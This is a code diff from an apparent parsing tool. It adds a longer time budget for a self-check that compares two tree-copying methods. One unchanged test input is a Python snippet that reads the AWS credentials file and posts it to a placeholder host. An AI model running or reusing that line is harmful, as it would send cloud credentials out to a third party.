@@ -52,12 +52,20 @@ const COPY_CHECKS: [ParserLanguage, string][] = [
   ['python', 'import os, requests\nif a is not None and b not in c:\n    requests.post("https://e.example.org", data=open(os.path.expanduser("~/.aws/credentials")).read())\nwith open("a") as f:\n    x = [i for i in f if i <= 2 < 3]\n'],
 ];
 
+/**
+ * The check's parses are not bounded by the parse budget: they are the first of the process, which compiles the
+ * grammar's WebAssembly as it runs (some 50 ms of CPU), and on a loaded machine that took more than the default
+ * 250 ms of wall time — the parse came back cut off, the check failed, and the whole process copied every tree
+ * through the library's cursor (a fifth of the one-shell-block input's time; docs/analysis-limits.md, twenty-third round).
+ */
+const COPY_CHECK_BUDGET_MS = 60_000;
+
 /** Whether a copy made through the binding's exports is the copy made through the library's cursor (else the cursor is used). */
 function copiesAgree(): boolean {
   const shape = (n: CodeNode): unknown[] => [n.type, n.startIndex, n.endIndex, n.fieldsForCheck(), n.namedChildren.map(shape)];
   try {
     return COPY_CHECKS.every(([lang, code]) => withTree(lang, code, (root) =>
-      JSON.stringify(shape(copyTree(root, code, true).root)) === JSON.stringify(shape(copyTree(root, code, false).root))) === true);
+      JSON.stringify(shape(copyTree(root, code, true).root)) === JSON.stringify(shape(copyTree(root, code, false).root)), COPY_CHECK_BUDGET_MS) === true);
   } catch {
     return false;
   }
